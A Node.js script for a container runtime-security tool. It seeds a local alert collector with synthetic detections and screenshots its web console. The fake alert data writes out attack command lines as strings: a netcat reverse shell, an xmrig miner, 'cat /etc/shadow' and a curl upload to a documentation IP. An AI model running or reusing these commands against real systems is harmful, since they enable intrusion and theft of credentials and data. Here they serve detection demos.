// SPDX-License-Identifier: Apache-2.0
/**
 * Screenshots of the web console for the README (docs/console/*.png): starts a real
 * `vigil collector` (from the sources, in a temporary data directory) with three forwarders
 * pointed at local receivers (one delivering, one refusing an alert, one down), fills it with a
 * day of realistic alerts (nine rules, every priority, six namespaces, three nodes; a burst three
 * hours ago) and one alert with an audit capture pushed over gRPC as the agent does (a shell in
 * the payments pod reading /etc/shadow, then calling out), then drives headless Chromium at
 * 1280×800 through the main views, light and dark, and writes PNGs (palette-quantized to 256
 * colours: a third of Chromium's size) into the folder given.
 *
 * Usage: node scripts/console-screenshots.mjs OUT_DIR   (. scripts/node-env.sh first; Chromium
 * from Debian's `chromium` package, or VIGIL_CHROMIUM: found and launched by test/helpers/chromium.ts,
 * as the browser tests do). Builds the console first when
 * dist/console is missing. Everything else it writes goes to a temporary folder it removes.
 */
import { spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { register } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";
import { deflateSync, inflateSync } from "node:zlib";

const root = resolve(dirname(fileURLToPath(import.meta.url)), "..");
const out = process.argv[2];
if (out === undefined || out.startsWith("-")) {
  process.stderr.write("usage: node scripts/console-screenshots.mjs OUT_DIR\n");
  process.exit(2);
}
// the sources run as they are (the tests' TypeScript loader): the capture recorder, the gRPC client, Chromium's launch
const LOADER = join(root, "test", "sinks", "helpers", "register-ts.mjs");
register("../test/sinks/helpers/ts-loader.mjs", import.meta.url);
const { CHROMIUM, launchChromium } = await import("../test/helpers/chromium.js");
if (CHROMIUM === undefined) {
  process.stderr.write("console-screenshots: no Chromium (apt-get install chromium, or set VIGIL_CHROMIUM)\n");
  process.exit(1);
}

const TOKEN = `screenshots-${Date.now()}-token`;
const W = 1280;
const H = 800;

// ---- PNG: decode Chromium's RGB(A) output, median-cut to 256 colours, write an indexed PNG

const CRC = new Int32Array(256).map((_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c;
});
function crc32(b) {
  let c = -1;
  for (const x of b) c = CRC[(c ^ x) & 0xff] ^ (c >>> 8);
  return (c ^ -1) >>> 0;
}
function pngChunk(type, data) {
  const b = Buffer.alloc(12 + data.length);
  b.writeUInt32BE(data.length, 0);
  b.write(type, 4, "latin1");
  data.copy(b, 8);
  b.writeUInt32BE(crc32(b.subarray(4, 8 + data.length)), 8 + data.length);
  return b;
}

/** Pixels of an 8-bit RGB or RGBA, non-interlaced PNG (what Chromium writes). */
function decodePng(png) {
  let p = 8;
  let ihdr;
  const idat = [];
  while (p < png.length) {
    const len = png.readUInt32BE(p);
    const type = png.toString("latin1", p + 4, p + 8);
    const data = png.subarray(p + 8, p + 8 + len);
    if (type === "IHDR") ihdr = data;
    else if (type === "IDAT") idat.push(data);
    p += 12 + len;
  }
  if (ihdr === undefined || ihdr[8] !== 8 || (ihdr[9] !== 2 && ihdr[9] !== 6) || ihdr[12] !== 0) throw new Error("unexpected PNG layout");
  const w = ihdr.readUInt32BE(0);
  const h = ihdr.readUInt32BE(4);
  const bpp = ihdr[9] === 6 ? 4 : 3;
  const stride = w * bpp;
  const raw = inflateSync(Buffer.concat(idat));
  const px = Buffer.alloc(h * stride);
  for (let y = 0; y < h; y++) {
    const f = raw[y * (stride + 1)];
    const src = raw.subarray(y * (stride + 1) + 1, (y + 1) * (stride + 1));
    const row = px.subarray(y * stride, (y + 1) * stride);
    const up = y > 0 ? px.subarray((y - 1) * stride, y * stride) : undefined;
    for (let i = 0; i < stride; i++) {
      const a = i >= bpp ? row[i - bpp] : 0;
      const b = up ? up[i] : 0;
      const c = up && i >= bpp ? up[i - bpp] : 0;
      let v = src[i];
      if (f === 1) v += a;
      else if (f === 2) v += b;
      else if (f === 3) v += (a + b) >> 1;
      else if (f === 4) {
        const pp = a + b - c;
        const pa = Math.abs(pp - a);
        const pb = Math.abs(pp - b);
        const pc = Math.abs(pp - c);
        v += pa <= pb && pa <= pc ? a : pb <= pc ? b : c;
      }
      row[i] = v & 0xff;
    }
  }
  return { w, h, bpp, px };
}

/** An indexed PNG of at most 256 colours (median cut weighted by pixel count, nearest colour, no dithering). */
function quantizePng(png) {
  const { w, h, bpp, px } = decodePng(png);
  const hist = new Map();
  for (let i = 0; i < w * h; i++) {
    const k = (px[i * bpp] << 16) | (px[i * bpp + 1] << 8) | px[i * bpp + 2];
    hist.set(k, (hist.get(k) ?? 0) + 1);
  }
  const colors = [...hist.entries()].map(([k, n]) => [k >> 16, (k >> 8) & 255, k & 255, n]);
  const boxes = [colors];
  while (boxes.length < 256) {
    let bi = -1;
    let best = 0;
    let bestCh = 0;
    boxes.forEach((b, i) => {
      if (b.length < 2) return;
      let n = 0;
      const lo = [255, 255, 255];
      const hi = [0, 0, 0];
      for (const c of b) {
        n += c[3];
        for (let ch = 0; ch < 3; ch++) {
          lo[ch] = Math.min(lo[ch], c[ch]);
          hi[ch] = Math.max(hi[ch], c[ch]);
        }
      }
      let ch = 0;
      for (let k = 1; k < 3; k++) if (hi[k] - lo[k] > hi[ch] - lo[ch]) ch = k;
      const score = (hi[ch] - lo[ch]) * Math.sqrt(n);
      if (score > best) {
        best = score;
        bi = i;
        bestCh = ch;
      }
    });
    if (bi < 0) break;
    const b = boxes[bi].sort((x, y) => x[bestCh] - y[bestCh]);
    const total = b.reduce((s, c) => s + c[3], 0);
    let acc = 0;
    let cut = b.length - 1;
    for (let i = 0; i < b.length - 1; i++) {
      acc += b[i][3];
      if (acc >= total / 2) {
        cut = i + 1;
        break;
      }
    }
    boxes.splice(bi, 1, b.slice(0, cut), b.slice(cut));
  }
  const palette = boxes.map((b) => {
    let n = 0;
    const s = [0, 0, 0];
    for (const c of b) {
      n += c[3];
      for (let ch = 0; ch < 3; ch++) s[ch] += c[ch] * c[3];
    }
    return s.map((v) => Math.round(v / n));
  });
  const index = new Map();
  for (const [k] of hist) {
    const r = k >> 16;
    const g = (k >> 8) & 255;
    const bl = k & 255;
    let bestI = 0;
    let bestD = Number.POSITIVE_INFINITY;
    palette.forEach((p, i) => {
      const d = (p[0] - r) ** 2 + (p[1] - g) ** 2 + (p[2] - bl) ** 2;
      if (d < bestD) {
        bestD = d;
        bestI = i;
      }
    });
    index.set(k, bestI);
  }
  const data = Buffer.alloc(h * (w + 1));
  for (let y = 0; y < h; y++)
    for (let x = 0; x < w; x++) {
      const i = (y * w + x) * bpp;
      data[y * (w + 1) + 1 + x] = index.get((px[i] << 16) | (px[i + 1] << 8) | px[i + 2]);
    }
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8;
  ihdr[9] = 3;
  const plte = Buffer.from(palette.flat());
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    pngChunk("IHDR", ihdr),
    pngChunk("PLTE", plte),
    pngChunk("IDAT", deflateSync(data, { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

// ---- realistic alerts

/** A small seeded PRNG (mulberry32): the same alerts every run. */
function prng(seed) {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(20);
const pick = (xs) => xs[Math.floor(rnd() * xs.length)];

const NODES = ["ip-10-0-1-23.eu-west-1.compute.internal", "ip-10-0-2-57.eu-west-1.compute.internal", "ip-10-0-3-11.eu-west-1.compute.internal"];
const WORKLOADS = [
  { ns: "payments", pod: "payments-api-6c9f7d8b5-x2lqp", ctr: "api", image: "registry.example.com/payments/api", tag: "2.14.1" },
  { ns: "payments", pod: "web-7d9f6c5b8-abcde", ctr: "web", image: "docker.io/library/nginx", tag: "1.27" },
  { ns: "checkout", pod: "checkout-5f7b9c6d4-k8s2m", ctr: "checkout", image: "registry.example.com/shop/checkout", tag: "1.9.0" },
  { ns: "monitoring", pod: "prometheus-k8s-0", ctr: "prometheus", image: "quay.io/prometheus/prometheus", tag: "v2.54.1" },
  { ns: "kube-system", pod: "aws-node-7xk2p", ctr: "aws-node", image: "602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni", tag: "v1.18.3" },
  { ns: "ci-runners", pod: "runner-kq9d-project-42", ctr: "build", image: "docker.io/library/node", tag: "20-alpine" },
];
const RULES = [
  {
    rule: "Terminal shell in container",
    prio: "Notice",
    tags: ["container", "shell", "mitre_execution", "T1059"],
    proc: ["bash", "/bin/bash", "bash -i"],
    w: 30,
  },
  {
    rule: "Read sensitive file untrusted",
    prio: "Warning",
    tags: ["filesystem", "mitre_credential_access", "T1555"],
    proc: ["python3", "/usr/bin/python3", "python3 app.py"],
    fd: "/etc/pam.d/common-auth",
    w: 14,
  },
  {
    rule: "Write below etc",
    prio: "Error",
    tags: ["filesystem", "mitre_persistence", "T1098"],
    proc: ["sed", "/bin/sed", "sed -i s/x/y/ /etc/hosts"],
    fd: "/etc/hosts",
    w: 12,
  },
  {
    rule: "Contact K8S API Server From Container",
    prio: "Notice",
    tags: ["network", "k8s", "container", "mitre_discovery", "T1565"],
    proc: ["curl", "/usr/bin/curl", "curl -sk https://10.100.0.1/api"],
    w: 16,
  },
  {
    rule: "Launch Privileged Container",
    prio: "Informational",
    tags: ["container", "cis", "mitre_privilege_escalation", "T1610"],
    proc: ["pause", "/pause", "/pause"],
    w: 10,
  },
  {
    rule: "Clear Log Activities",
    prio: "Warning",
    tags: ["filesystem", "mitre_defense_evasion", "T1070"],
    proc: ["truncate", "/usr/bin/truncate", "truncate -s0 /var/log/app.log"],
    fd: "/var/log/app.log",
    w: 6,
  },
  {
    rule: "Drop and execute new binary in container",
    prio: "Critical",
    tags: ["process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"],
    proc: ["xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example:3333"],
    w: 4,
  },
  {
    rule: "Netcat Remote Code Execution in Container",
    prio: "Warning",
    tags: ["network", "process", "mitre_execution", "T1059"],
    proc: ["nc", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"],
    w: 4,
  },
  {
    rule: "Debugfs Launched in Privileged Container",
    prio: "Debug",
    tags: ["container", "cis", "mitre_privilege_escalation", "T1611"],
    proc: ["debugfs", "/sbin/debugfs", "debugfs /dev/nvme0n1p1"],
    w: 4,
  },
];
const weighted = RULES.flatMap((r) => Array(r.w).fill(r));

function falcoAlert(r, wl, node, time) {
  const [name, exe, cmdline] = r.proc;
  const fields = {
    "evt.type": r.fd !== undefined ? "openat" : "execve",
    "proc.name": name,
    "proc.pid": 1000 + Math.floor(rnd() * 30000),
    "proc.exepath": exe,
    "proc.cmdline": cmdline,
    "proc.pname": name === "bash" ? "containerd-shim" : "bash",
    "proc.ppid": 900 + Math.floor(rnd() * 100),
    "user.name": "root",
    "user.uid": 0,
    "fd.name": r.fd ?? null,
    "container.id": (Math.floor(rnd() * 2 ** 48) + 2 ** 47).toString(16).slice(0, 12),
    "container.name": wl.ctr,
    "container.image.repository": wl.image,
    "container.image.tag": wl.tag,
    "k8s.ns.name": wl.ns,
    "k8s.pod.name": wl.pod,
  };
  const output = `${time}: ${r.prio} ${r.rule} (user=root user_uid=0 process=${name} proc_exepath=${exe} parent=${fields["proc.pname"]} command=${cmdline}${
    r.fd !== undefined ? ` file=${r.fd}` : ""
  } container_id=${fields["container.id"]} container_name=${wl.ctr} k8s_ns=${wl.ns} k8s_pod=${wl.pod})`;
  return { output, priority: r.prio, rule: r.rule, time, output_fields: fields, source: "syscall", tags: r.tags, hostname: node };
}

function receiver(status) {
  return new Promise((ok) => {
    const server = createServer((req, res) => {
      let body = "";
      req.on("data", (d) => (body += d));
      req.on("end", () => {
        res.writeHead(status(body), { "content-type": "text/plain" });
        res.end("");
      });
    });
    server.listen(0, "127.0.0.1", () => ok({ server, url: `http://127.0.0.1:${server.address().port}` }));
  });
}

async function until(what, fn, ms = 30_000) {
  const end = Date.now() + ms;
  while (!(await fn())) {
    if (Date.now() > end) throw new Error(`timed out: ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

// ---- run

const tmp = mkdtempSync(join(tmpdir(), "vigil-console-screenshots-"));
const receivers = [];
let collector;
let browser;
try {
  if (!existsSync(join(root, "dist", "console", "index.html"))) {
    const b = spawnSync(process.execPath, [join(root, "scripts", "build-console.mjs")], { stdio: "inherit" });
    if (b.status !== 0) throw new Error("building the console failed");
  }
  mkdirSync(out, { recursive: true });

  // forwarders: chat delivers everything, the SIEM refuses one alert for good, the archive is down
  let refuseOne = true;
  const chat = await receiver(() => 200);
  const siem = await receiver((body) => {
    if (refuseOne && body.includes("Drop and execute")) {
      refuseOne = false;
      return 422;
    }
    return 200;
  });
  const archive = await receiver(() => 503);
  receivers.push(chat.server, siem.server, archive.server);
  const config = join(tmp, "collector.yaml");
  writeFileSync(
    config,
    `forwarders:
  - name: secops-slack
    type: slack
    url: ${chat.url}/services/T000/B000/XXXX
    min_priority: warning
  - name: siem
    type: webhook
    url: ${siem.url}/ingest
  - name: s3-archive
    type: webhook
    url: ${archive.url}/archive
    retry_min_ms: 500
    retry_max_ms: 5000
`,
  );

  collector = spawn(
    process.execPath,
    [
      "--import",
      LOADER,
      join(root, "agent/cli/main.ts"),
      "collector",
      "--listen",
      "127.0.0.1:0",
      "--data",
      join(tmp, "data"),
      "--token",
      TOKEN,
      "--config",
      config,
    ],
    {
      cwd: root,
      stdio: ["ignore", "ignore", "pipe"],
    },
  );
  let log = "";
  const address = await new Promise((ok, fail) => {
    createInterface({ input: collector.stderr }).on("line", (l) => {
      log += `${l}\n`;
      try {
        const o = JSON.parse(l);
        if (o.msg === "vigil collector ready") ok(o.address);
      } catch {
        // not a JSON log line
      }
    });
    collector.on("exit", (code) => fail(new Error(`the collector exited ${code}: ${log.slice(-2000)}`)));
  });
  const base = `http://${address}`;
  const auth = { authorization: `Bearer ${TOKEN}` };

  // a day of alerts: a steady trickle, a burst three hours ago, and the incident of the last minutes
  const now = Date.now();
  const times = [];
  for (let i = 0; i < 170; i++) times.push(now - 600_000 - rnd() * 23 * 3600_000);
  for (let i = 0; i < 70; i++) times.push(now - 3 * 3600_000 - rnd() * 25 * 60_000);
  for (let i = 0; i < 12; i++) times.push(now - 60_000 - rnd() * 9 * 60_000);
  times.sort((a, b) => a - b);
  for (const t of times) {
    const a = falcoAlert(pick(weighted), pick(WORKLOADS), pick(NODES), new Date(t).toISOString());
    const res = await fetch(`${base}/`, { method: "POST", headers: { ...auth, "content-type": "application/json" }, body: JSON.stringify(a) });
    if (res.status !== 200) throw new Error(`posting an alert: ${res.status} ${await res.text()}`);
  }

  // the incident: a shell in the payments web pod reads /etc/shadow, then calls out; the agent's capture goes with it
  const { CaptureRecorder } = await import("../agent/capture/recorder.js");
  const { CollectorClient } = await import("../agent/sinks/collector-client.js");
  const { container, event, proc } = await import("../test/capture/helpers.js");
  const { pino } = await import("pino");
  const box = container("3f2a9c1b7d4e", {
    name: "web",
    image: "docker.io/library/nginx:1.27",
    imageRepository: "docker.io/library/nginx",
    imageTag: "1.27",
    k8s: {
      podName: "web-7d9f6c5b8-abcde",
      namespace: "payments",
      podUid: "0d3c…",
      sandboxId: undefined,
      podLabels: new Map([["app", "web"]]),
      podIp: "10.0.1.17",
      containerName: "web",
    },
  });
  const nginx = proc(box, { comm: "nginx", exe: "nginx", exepath: "/usr/sbin/nginx", pid: 3100, tid: 3100, args: ["-g", "daemon off;"] });
  const bash = proc(box, { comm: "bash", exe: "bash", exepath: "/bin/bash", pid: 4200, tid: 4200, args: ["-i"], parent: nginx });
  const cat = proc(box, { comm: "cat", exe: "cat", exepath: "/usr/bin/cat", pid: 4242, tid: 4242, args: ["/etc/shadow"], parent: bash });
  const curl = proc(box, {
    comm: "curl",
    exe: "curl",
    exepath: "/usr/bin/curl",
    pid: 4251,
    tid: 4251,
    args: ["-s", "-T", "-", "https://203.0.113.7/u"],
    parent: bash,
  });
  const incident = now - 45_000;
  let step = 0;
  const at = (e, us) => {
    step += us;
    e.sec = Math.floor((incident + step / 1000) / 1000);
    e.nsec = Math.round(((incident * 1000 + step) % 1_000_000) * 1000);
    return e;
  };
  const open = (p, path, fd, flags = 0x80000) => event("openat", [fd, -100, path, flags, 0, 2049, 100 + path.length], p, { name: path, openFlags: flags });
  const tuple = { family: 2, sip: "10.0.1.17", sport: 51544, dip: "203.0.113.7", dport: 443 };
  const before = [
    at(open(nginx, "/usr/share/nginx/html/index.html", 12, 0x800), 0),
    at(event("close", [0, 12], nginx), 180),
    at(event("clone", [4242, "/bin/bash", ["-i"], 4200, 4200, 3100], bash), 1_200_000),
    at(event("execve", [0, "/usr/bin/cat", ["/etc/shadow"], 4242, 4242, 4200], cat), 850),
    at(open(cat, "/etc/ld.so.cache", 3), 310),
    at(event("close", [0, 3], cat), 22),
    at(open(cat, "/lib/x86_64-linux-gnu/libc.so.6", 3), 41),
    at(event("close", [0, 3], cat), 96),
    at(open(cat, "/usr/lib/locale/locale-archive", -2), 120),
    at(open(cat, "/etc/shadow", 3, 0), 35),
  ];
  const after = [
    at(event("close", [0, 3], cat), 64),
    at(event("procexit", [0, 0, 0, 0, 4200], cat), 40),
    at(event("clone", [4251, "/bin/bash", ["-i"], 4200, 4200, 3100], bash), 2_400_000),
    at(event("execve", [0, "/usr/bin/curl", ["-s", "-T", "-", "https://203.0.113.7/u"], 4251, 4251, 4200], curl), 900),
    at(event("socket", [5, 2, 1, 6], curl), 4100),
    at(event("connect", [0, tuple, 5, tuple], curl), 60),
    at(event("sendto", [517, new TextEncoder().encode("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"), 5, 517, tuple], curl), 38_000),
    at(event("close", [0, 5], curl), 410_000),
    at(event("procexit", [0, 0, 0, 0, 4200], curl), 90),
  ];
  const rec = new CaptureRecorder({ perContainer: 256, logger: pino({ level: "silent" }) });
  for (const e of before) rec.record(e);
  const { v7: uuidv7 } = await import("uuid");
  const shadowTime = new Date(incident + 1200).toISOString();
  const shadow = {
    id: uuidv7(),
    time: shadowTime,
    rule: "Read sensitive file untrusted",
    priority: "Critical",
    source: "syscall",
    hostname: NODES[0],
    output: `${shadowTime}: Critical Sensitive file opened for reading by non-trusted program (file=/etc/shadow user=root process=cat command=cat /etc/shadow parent=bash container=web image=docker.io/library/nginx:1.27 k8s_ns=payments k8s_pod=web-7d9f6c5b8-abcde)`,
    output_fields: {
      "evt.type": "openat",
      "fd.name": "/etc/shadow",
      "user.name": "root",
      "user.uid": 0,
      "proc.name": "cat",
      "proc.pid": 4242,
      "proc.exepath": "/usr/bin/cat",
      "proc.cmdline": "cat /etc/shadow",
      "proc.pname": "bash",
      "proc.ppid": 4200,
      "proc.pcmdline": "bash -i",
      "proc.aname[2]": "nginx",
      "proc.apid[2]": 3100,
      "proc.acmdline[2]": "nginx -g daemon off;",
      "proc.aname[3]": "containerd-shim-runc-v2",
      "proc.apid[3]": 2988,
      "container.id": box.id,
      "container.name": "web",
      "container.image.repository": "docker.io/library/nginx",
      "container.image.tag": "1.27",
      "container.privileged": false,
      "k8s.ns.name": "payments",
      "k8s.pod.name": "web-7d9f6c5b8-abcde",
    },
    tags: ["filesystem", "mitre_credential_access", "T1003.008"],
  };
  const pending = rec.capture({ alertId: shadow.id, rule: shadow.rule, containerId: box.id, durationMs: 200 });
  for (const e of after) rec.record(e);
  const cap = await pending;
  const client = new CollectorClient({ address, token: TOKEN });
  await client.push([shadow], [cap]);
  client.close();

  // the forwarders settle: the SIEM has passed every alert, the archive retries
  await until("forwarders settled", async () => {
    const r = await fetch(`${base}/api/v1/forwarders`, { headers: auth });
    const list = (await r.json()).forwarders;
    const s = list.find((f) => f.name === "siem");
    const a = list.find((f) => f.name === "s3-archive");
    return s?.lagAlerts === 0 && s.deadLetters === 1 && a?.state === "retrying";
  });

  browser = await launchChromium();
  const written = [];
  for (const scheme of ["light", "dark"]) {
    const ctx = await browser.newContext({ viewport: { width: W, height: H }, deviceScaleFactor: 1, colorScheme: scheme });
    const page = await ctx.newPage();
    const suffix = scheme === "dark" ? "-dark" : "";
    const shot = async (name) => {
      await page.mouse.move(W - 2, H - 2);
      const png = quantizePng(await page.screenshot());
      const file = join(out, `${name}${suffix}.png`);
      writeFileSync(file, png);
      written.push(`${file} (${png.length} bytes)`);
    };
    await page.goto(`${base}/#token=${encodeURIComponent(TOKEN)}`);
    await page.locator(".tail-state[data-state=live]").waitFor();
    await page.locator(`.row[data-id="${shadow.id}"]`).waitFor();
    await page.locator(".timeline").waitFor();
    await shot("alerts");
    // the incident's alert: its detail, then its capture as a syscall trace
    await page.locator(`.row[data-id="${shadow.id}"]`).click();
    const detail = page.locator(".detail");
    await detail.locator(".ancestry").waitFor();
    await detail.locator(".trace-table tr.trigger").waitFor();
    if (scheme === "light") await shot("detail");
    await detail.locator(".capture").evaluate((el) => {
      const d = el.closest(".detail");
      d.scrollTop = el.getBoundingClientRect().top - d.getBoundingClientRect().top + d.scrollTop - 40;
    });
    await shot("trace");
    await page.getByRole("navigation", { name: "Pages" }).getByRole("link", { name: "Forwarders" }).click();
    await page.locator('tr.fwd[data-name="siem"]').waitFor();
    await page.locator('tr.fwd[data-name="siem"] .dead-toggle').click();
    await page.locator(".dead-letters tbody tr").first().waitFor();
    if (scheme === "light") await shot("forwarders");
    await ctx.close();
  }
  process.stdout.write(`${written.join("\n")}\n`);
} catch (err) {
  process.stderr.write(`console-screenshots: ${err instanceof Error ? err.stack : String(err)}\n`);
  process.exitCode = 1;
} finally {
  await browser?.close();
  if (collector !== undefined && collector.exitCode === null) collector.kill("SIGKILL");
  for (const s of receivers) {
    s.closeAllConnections();
    s.close();
  }
  rmSync(tmp, { recursive: true, force: true });
}
